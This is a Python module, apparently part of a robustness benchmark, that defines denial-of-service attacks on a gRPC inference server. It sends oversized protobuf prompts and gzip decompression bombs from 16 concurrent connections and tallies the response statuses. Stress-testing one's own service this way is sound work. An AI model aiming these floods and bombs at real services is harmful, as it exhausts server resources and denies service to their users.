"""Attacks with large messages."""

from __future__ import annotations

import asyncio
import zlib
from collections import Counter

from bench.hostile.attacks.attack import LONG_TOKENS, Figures, Target
from bench.hostile.attacks.flood import PREFILL, flood
from bench.hostile.attacks.frames import RawConnection

_NUM_AT_ONCE = 16
_BOMB_BYTES = 300 * 10**6
_BOMB_TIMEOUT_S = 5.0


async def large_packed(target: Target) -> Figures:
    """Send prompts of 16 million tokens, which no default pool can hold."""
    # Field 1, `token_ids`, packed: its length, 64 MiB as a varint, then 4 bytes per token.
    message = b"\x0a\x80\x80\x80\x20" + bytes(64 * 2**20)
    return await flood(target, PREFILL, lambda: message, _NUM_AT_ONCE)


async def large_unpacked(target: Target) -> Figures:
    """Send the longest prompts that are accepted, with a tag for each token."""
    # Field 1, `token_ids`, not packed: a tag and 4 bytes per token.
    message = b"\x0d\1\0\0\0" * LONG_TOKENS
    return await flood(target, PREFILL, lambda: message, _NUM_AT_ONCE)


async def gzip_bombs(target: Target) -> Figures:
    """Send 300 MB of zeros, compressed to a thousandth, on new connections."""
    bomb = await asyncio.to_thread(_compress_zeros, target.scaled(_BOMB_BYTES))
    clock = asyncio.get_running_loop().time
    end_s = clock() + target.seconds
    observed: Counter[str] = Counter()

    async def repeat() -> None:
        while clock() < end_s:
            connection = await RawConnection.open(target.address, 65_535)
            connection.call(PREFILL, bomb, headers={"grpc-encoding": "gzip"}, is_compressed=True)
            observed[f"status {await connection.read_status(_BOMB_TIMEOUT_S)}"] += 1
            connection.close()

    await asyncio.gather(*(repeat() for _ in range(_NUM_AT_ONCE)))
    return dict(observed)


def _compress_zeros(num_bytes: int) -> bytes:
    packer, zeros = zlib.compressobj(9, wbits=31), bytes(10**6)
    pieces = [packer.compress(zeros) for _ in range(-(-num_bytes // len(zeros)))]
    return b"".join([*pieces, packer.flush()])
